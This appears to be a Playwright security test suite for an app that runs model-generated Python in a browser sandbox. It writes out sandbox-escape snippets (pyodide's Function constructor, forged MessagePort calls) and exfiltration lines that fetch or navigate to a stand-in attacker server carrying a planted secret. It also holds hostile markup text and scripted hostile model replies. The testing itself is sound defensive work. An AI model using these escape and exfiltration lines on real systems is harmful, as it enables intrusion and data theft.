/**
 * What hostile code, hostile text and a hostile server can do with the built app: nothing. One suite for every condition in
 * which the app's page can be.
 */
import type { Page } from '@playwright/test';
import { PLANTED, probes } from '../probes';
import { startAttackServer, type AttackServer } from './attack-server';
import { fromDocument } from './frame-attacks';
import { inPython, together, waysIn, waysOut } from './attacks';
import { Burrow, expect, repl, test as base } from './burrow';
import { HOSTILE_NAME, hostileText, intruders, watch } from './hostile-text';
import { direct, prepare, QUESTION, recursive, SUBMIT } from './notes';
import { dump, plant } from './storage';

const KEY = 'sk-planted-0a1b2c3d4e5f';

/** Python starts anew for every run, which takes seconds each time. */
const PRIVATE = { name: 'private.txt', text: `Nobody may read this: ${PLANTED.secret}.` };

/** Everything that the page hears from others, on any channel, besides the app's own announcements. */
async function listen(page: Page): Promise<() => Promise<unknown[]>> {
  await page.evaluate((channel) => {
    const heard: unknown[] = [];
    Object.assign(window, { heard });
    new BroadcastChannel(channel).onmessage = ({ data }) => heard.push(data);
    new BroadcastChannel('burrow').onmessage = ({ data }) => {
      if (!['library', 'runs', 'endpoints', 'settings', 'measures'].includes(String(data))) heard.push(data);
    };
    window.addEventListener('message', ({ data }) => heard.push(data));
  }, PLANTED.channel);
  return () => page.evaluate(() => (window as unknown as { heard: unknown[] }).heard);
}

async function prepareAll(burrow: Burrow, url: string): Promise<void> {
  await burrow.corpus('Private', [PRIVATE]);
  await prepare(burrow, url, KEY);
}

/** JavaScript in the worker that has taken hold of its port to the page and does this with the next message. */
const forged = (change: string) =>
  repl(
    [
      'from pyodide.ffi import to_js',
      `to_js([1]).constructor.constructor(${JSON.stringify(`
        const post = MessagePort.prototype.postMessage;
        MessagePort.prototype.postMessage = function (message) { ${change} };
      `)})()`,
      'llm_query("x")',
    ].join('\n'),
  );

const asScript = (body: string) =>
  repl(
    `from pyodide.ffi import to_js\nto_js([1]).constructor.constructor(${JSON.stringify(body)})()\nwhile True: pass`,
  );

/** Gives, in a window or a worker, what there is to share memory with and to tell the time by. */
const MEMORY = `(async () => {
  const tried = (send) => { try { send(new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }).buffer); return 'shared'; } catch (error) { return error.name; } };
  const steps = [];
  for (let last = performance.now(); steps.length < 20; ) {
    const now = performance.now();
    if (now !== last) steps.push(now - last);
    last = now;
  }
  return {
    isolated: crossOriginIsolated,
    constructor: typeof SharedArrayBuffer,
    port: tried((memory) => new MessageChannel().port1.postMessage(memory)),
    worker: tried((memory) => new Worker(URL.createObjectURL(new Blob([]))).postMessage(memory)),
    measure: typeof performance.measureUserAgentSpecificMemory,
    clock: Math.min(...steps) < 0.05 ? 'fine' : 'coarse',
  };
})()`;
const ALONE = {
  isolated: false,
  constructor: 'undefined',
  port: 'DataCloneError',
  worker: 'DataCloneError',
  measure: 'undefined',
  clock: 'coarse',
};

/** How the page is before the attacks begin, and whether it is isolated from other sites then. */
export interface Condition {
  readonly arrange: (burrow: Burrow) => Promise<void>;
  readonly isIsolated: boolean;
}

export function attackSuite({ arrange, isIsolated }: Condition): void {
  const test = base.extend<{ attacker: AttackServer }>({
    // What hostile code throws is no mistake of the app's, but the browser reports it as an error of the page.
    burrow: async ({ page, site }, use) => {
      const burrow = new Burrow(page, site);
      await arrange(burrow);
      await use(burrow);
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(isIsolated);
    },
    attacker: async ({}, use) => {
      const server = await startAttackServer();
      await use(server);
      await server.close();
    },
  });

  test('the attacks are real: in a plain worker of the app’s origin every one of them gets through', async ({
    attacker,
    burrow,
    page,
  }) => {
    await burrow.open();
    await plant(page, PLANTED);
    await burrow.corpus('Private', [PRIVATE]);
    const out = waysOut(attacker.http, attacker.ws);
    const said = await page.evaluate(
      (body) =>
        new Promise<string[]>((resolve, reject) => {
          const source = `new Function(${JSON.stringify(body)})().then(postMessage)`;
          const worker = new Worker(URL.createObjectURL(new Blob([source])));
          worker.onmessage = ({ data }: MessageEvent<string[]>) => resolve(data);
          worker.onerror = ({ message }) => reject(new Error(message));
        }),
      together([...out, ...waysIn(PLANTED)]),
    );
    await attacker.fence(page);
    const reached = attacker.arrivals().map((what) => what.split('/')[1]);
    expect(out.map(({ name }) => name).filter((name) => !reached.includes(name))).toEqual([]);
    for (const { name } of waysIn(PLANTED)) {
      expect(said.filter((line) => line.startsWith(`${name}: `)).join()).toContain(PLANTED.secret);
    }
  });

  test('hostile Python reaches no server, nothing stored, no key and nobody on the page', async ({
    attacker,
    burrow,
    context,
    models,
    page,
    site,
  }) => {
    const said: string[] = [];
    const asked: string[] = [];
    const answered: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    // Playwright also tells of requests that the policy stopped; only those that were sent are answered.
    context.on('request', (request) => asked.push(request.url()));
    context.on('response', (response) => answered.push(response.url()));
    await burrow.open();
    await plant(page, PLANTED);
    const heard = await listen(page);
    await prepareAll(burrow, models.url);

    const ways = together([...waysOut(attacker.http, attacker.ws), ...waysIn(PLANTED)]);
    let inside = '';
    models.script([
      {
        when: ({ lastUser }) => lastUser === 'look now',
        reply: async () => {
          inside = JSON.stringify(
            await Promise.all(
              page
                .frames()
                .slice(1)
                .map((frame) => frame.content()),
            ),
          );
          return 'seen';
        },
      },
      {
        when: ({ turn }) => turn === 0,
        reply: probes(attacker)
          .map(({ python }) => repl(python))
          .join('\n\n'),
      },
      { when: ({ turn }) => turn === 1, reply: `${repl(inPython(ways))}\n\n${repl('print(llm_query("look now"))')}` },
      { reply: SUBMIT },
    ]);
    await burrow.ask(QUESTION, recursive);
    await burrow.ended('answered');
    await expect(burrow.answer).toContainText('Jan Visser');

    const [run = ''] = await burrow.runIds();
    const cells = (await burrow.storedEvents(run)) as { type: string; error: unknown; output: { head: string } }[];
    const outcomes = cells.filter(({ type }) => type === 'cell.finished');
    const printed = outcomes.map(({ output }) => output.head).join('\n');
    expect(outcomes).toHaveLength(probes(attacker).length + 3);
    expect(outcomes.filter(({ error }) => error !== null)).toEqual([]);
    // The script ran: it had JavaScript in hand, and was refused each time.
    for (const { name } of waysIn(PLANTED)) expect(printed).toContain(`${name}: blocked`);
    expect(printed).not.toContain('REACHED');
    expect(printed).not.toContain(PLANTED.secret);
    expect(await heard()).toEqual([]);
    await attacker.fence(page);
    expect(attacker.arrivals()).toEqual([]);
    const known = [site, models.url, 'data:', 'blob:', `${attacker.http}/fence`];
    expect(answered.filter((url) => !known.some((start) => url.startsWith(start)))).toEqual([]);

    await test.step('the key went to its server, in a header, and nowhere else', async () => {
      expect(new Set(models.requests.map(({ headers }) => headers['authorization']))).toEqual(
        new Set([`Bearer ${KEY}`]),
      );
      for (const request of models.requests)
        expect(JSON.stringify([request.body, request.messages])).not.toContain(KEY);
      const stored = await dump(page);
      expect(stored).toContain(PLANTED.secret);
      expect(stored).toContain('Jan Visser');
      expect(stored).not.toContain(KEY);
      expect(inside).toContain('Content-Security-Policy');
      expect(inside).not.toContain(KEY);
      expect(JSON.stringify([said, asked, printed, cells])).not.toContain(KEY);
      expect(await page.content()).not.toContain(KEY);
    });
  });

  test('a worker that breaks out of its part loses its cell and is replaced, and the run goes on', async ({
    attacker,
    burrow,
    models,
    page,
  }) => {
    const call = `fetch(${JSON.stringify(`${attacker.http}/called`)})`;
    const lost = 'The cell broke Python itself';
    const BREAKS = [
      {
        name: 'calls functions of the page through its port',
        reply: forged(
          `post.call(this, { id: '1', type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [{ type: 'RAW', value: ${JSON.stringify(call)} }] });`,
        ),
        told: lost,
      },
      {
        name: 'sends an outcome that fills the memory',
        reply: forged(
          `post.call(this, message.value instanceof Uint8Array ? { ...message, value: new Uint8Array(64e6) } : message);`,
        ),
        told: lost,
      },
      {
        name: 'fails outside of every cell',
        reply: asScript(`setTimeout(() => { throw new Error('out') }); postMessage('to the frame');`).replace(
          'while True: pass',
          'import time; time.sleep(30)',
        ),
        told: lost,
      },
      {
        name: 'computes for ever outside of Python',
        reply: asScript('for (;;) {}'),
        told: 'could not be interrupted',
      },
      { name: 'closes itself', reply: asScript('self.close()'), told: 'self.close is not a function' },
    ];
    await burrow.open();
    const heard = await listen(page);
    await prepareAll(burrow, models.url);
    await burrow.setLimit(/seconds of a cell/i, 1);
    for (const { name, reply, told } of BREAKS) {
      await test.step(name, async () => {
        const before = models.requests.length;
        models.script([
          { when: ({ lastUser }) => lastUser === 'x', reply: 'ok' },
          { times: 1, reply },
          { reply: SUBMIT },
        ]);
        await burrow.ask(`What if it ${name}?`, recursive);
        await burrow.ended('answered');
        expect(models.requests.slice(before).some(({ lastUser }) => lastUser.includes(told))).toBe(true);
      });
    }
    // Of all of it only the frame's own word that its worker failed came to the page.
    expect(await heard()).toEqual(['failed']);
    await attacker.fence(page);
    expect(attacker.arrivals()).toEqual([]);
    models.script([{ reply: SUBMIT }]);
    await burrow.ask(QUESTION, recursive);
    await burrow.ended('answered');
    await expect(burrow.answer).toContainText('Jan Visser');
  });

  test('even code in the sandbox’s own document sends no request, reads nothing and moves nothing', async ({
    attacker,
    burrow,
    models,
    page,
  }) => {
    await burrow.open();
    await plant(page, PLANTED);
    const heard = await listen(page);
    await prepareAll(burrow, models.url);
    models.script([
      { when: ({ lastUser }) => lastUser === 'wait', reply: { fault: 'silent' } },
      { reply: repl('llm_query("wait")') },
    ]);
    await burrow.ask(QUESTION, recursive);
    await models.until(({ requests }) => requests.some(({ lastUser }) => lastUser === 'wait'));
    const address = page.url();
    // The run's, and perhaps the spare one's, which is no different.
    const [, ...sandboxes] = page.frames();
    const [frame] = sandboxes;
    if (frame === undefined) throw new Error('There should be a sandbox.');

    const said: unknown = await frame.evaluate(`(() => { ${together(fromDocument(attacker.http, attacker.ws))} })()`);
    const lines = JSON.stringify(said, null, 1);
    for (const { name } of fromDocument(attacker.http, attacker.ws)) expect(lines).toContain(`"${name}: `);
    for (const name of ['fetch', 'a softer policy', 'the page', 'the page’s address', 'storage', 'a database']) {
      expect(lines).toContain(`"${name}: blocked`);
    }
    expect(lines).not.toContain(PLANTED.secret);
    await frame.evaluate(
      `for (const word of ['stop', { id: '1', type: 'RAW', value: 1 }]) parent.postMessage(word, '*')`,
    );
    await expect(burrow.status).toContainText('running', { ignoreCase: true });

    // The frame itself can be navigated away by such code: then it is replaced, and no request left either.
    for (const sandbox of sandboxes) {
      await sandbox.evaluate(
        `void (location.href = ${JSON.stringify(`${attacker.http}/navigated?${PLANTED.secret}`)})`,
      );
    }
    await expect.poll(() => sandboxes.some((sandbox) => page.frames().includes(sandbox))).toBe(false);
    await expect(burrow.status).toContainText('running', { ignoreCase: true });
    await attacker.fence(page);
    // A browser may connect before it asks its policy; nothing is said over such a connection.
    expect(attacker.arrivals().filter((what) => what !== 'connection')).toEqual([]);
    expect(page.url()).toBe(address);
    expect(await heard()).toEqual(['stop', { id: '1', type: 'RAW', value: 1 }]);
  });

  test('the sandbox can share memory with nobody and has no finer clock, whatever its page can do', async ({
    burrow,
    models,
    page,
  }) => {
    const frames: unknown[] = [];
    models.script([
      {
        when: ({ lastUser }) => lastUser === 'look now',
        reply: async () => {
          for (const frame of page.frames().slice(1)) frames.push(await frame.evaluate(MEMORY));
          return 'seen';
        },
      },
      { when: ({ turn }) => turn === 0, reply: repl(inPython(`return ${MEMORY}.then(JSON.stringify)`)) },
      { when: ({ turn }) => turn === 1, reply: repl('print(llm_query("look now"))') },
      { reply: SUBMIT },
    ]);
    await prepareAll(burrow, models.url);
    await burrow.ask(QUESTION, recursive);
    await burrow.ended('answered');
    const [run = ''] = await burrow.runIds();
    const events = (await burrow.storedEvents(run)) as { type: string; output: { head: string } }[];
    const [first] = events.filter(({ type }) => type === 'cell.finished');
    expect(JSON.parse(first?.output.head ?? '')).toEqual(ALONE);
    expect(frames.length).toBeGreaterThan(0);
    expect(frames).toEqual(frames.map(() => ALONE));
    for (const sandbox of await page.locator('iframe').all()) expect(await sandbox.getAttribute('allow')).toBeNull();
    if (isIsolated) expect(await page.evaluate(MEMORY)).toMatchObject({ isolated: true, port: 'shared' });
    else expect(await page.evaluate(MEMORY)).toEqual(ALONE);
  });

  test('the hostile text is hostile: taken for markup it runs, loads and opens', async ({ attacker, page }) => {
    const { ran } = await watch(page);
    await page.setContent(hostileText(attacker.http));
    await expect.poll(() => ran).toEqual(expect.arrayContaining(['script', 'image', 'svg', 'frame', 'toggle']));
    await expect
      .poll(attacker.arrivals)
      .toEqual(expect.arrayContaining(['GET /html-image', 'GET /iframe', 'GET /refresh']));
  });

  test('text from documents, models and file names is shown as text in every view', async ({
    attacker,
    burrow,
    models,
    page,
  }) => {
    const text = hostileText(attacker.http);
    const { ran, opened } = await watch(page);
    const quote = `ran('script')`;
    models.script([
      {
        when: ({ turn, lastUser }) => turn === 0 && lastUser !== 'read',
        reply: `${text}\n\n${repl(`# ${text.replaceAll('\n', ' ')}\nprint(context)\nprint(llm_query("read"))\nx = context`)}`,
      },
      { when: ({ lastUser }) => lastUser === 'read', reply: text },
      {
        reply: repl(`answer["content"] = "# " + context + str(cite(${JSON.stringify(quote)}))\nanswer["ready"] = True`),
      },
    ]);
    await burrow.connect(HOSTILE_NAME, models.url);
    await burrow.corpus(HOSTILE_NAME, [{ name: `${HOSTILE_NAME}.txt`, text }]);
    const names = { corpus: HOSTILE_NAME, root: HOSTILE_NAME, sub: HOSTILE_NAME };
    const clean = async (where: string) => {
      expect(await intruders(page), where).toEqual([]);
      expect(ran, where).toEqual([]);
      expect(opened, where).toEqual([]);
      expect(attacker.arrivals(), where).toEqual([]);
    };

    await burrow.ask(text, { ...names, strategy: 'Recursive' });
    await burrow.ended('answered');
    await expect(burrow.answer).toContainText(`<script>${quote}</script>`);
    await expect(burrow.answer.getByRole('region', { name: 'Quotations' })).toContainText(quote);
    await expect(burrow.trace).toContainText(`<script>${quote}</script>`);
    await clean('Ask');

    await burrow.answer.getByRole('region', { name: 'Quotations' }).getByRole('link').first().click();
    await expect(page.locator('mark')).toHaveText(quote);
    await clean('Document');

    const [run = ''] = await burrow.runIds();
    await burrow.open(`#/run/${run}`);
    const transcript = page.getByRole('region', { name: 'Transcript' });
    await expect(transcript).toContainText(quote);
    for (const folded of await transcript.locator('summary').all()) await folded.click();
    await clean('Run');

    for (const [route, shown] of [
      ['#/library', HOSTILE_NAME],
      ['#/models', HOSTILE_NAME],
      ['#/runs', quote],
      ['#/settings', 'Limits'],
      [`#/${encodeURIComponent(HOSTILE_NAME)}`, 'Not found'],
    ] as const) {
      await burrow.open(route);
      await expect(page.getByRole('main')).toContainText(shown);
      await clean(route);
    }
    await burrow.open('#/runs');
    await page.getByRole('button', { name: /^Delete the run/ }).click();
    await expect(page.getByText('Deleted the run.')).toBeVisible();
    await burrow.open('#/library');
    await page.getByRole('button', { name: new RegExp(`^Delete a .*name$`) }).click();
    await expect(page.getByText('Deleted “')).toBeVisible();
    await clean('what was deleted');
  });

  test('a server that repeats the key in its refusal does not put it on the page or into storage', async ({
    burrow,
    models,
    page,
  }) => {
    models.script([{ reply: { status: 401, error: { error: { message: `Incorrect API key provided: ${KEY}.` } } } }]);
    await prepare(burrow, models.url, KEY);
    await burrow.ask(QUESTION, direct);
    await burrow.ended('failed');
    await expect(burrow.answer).toContainText('Incorrect API key provided: [key].');
    expect(await page.content()).not.toContain(KEY);
    expect(await dump(page)).not.toContain(KEY);
  });
}
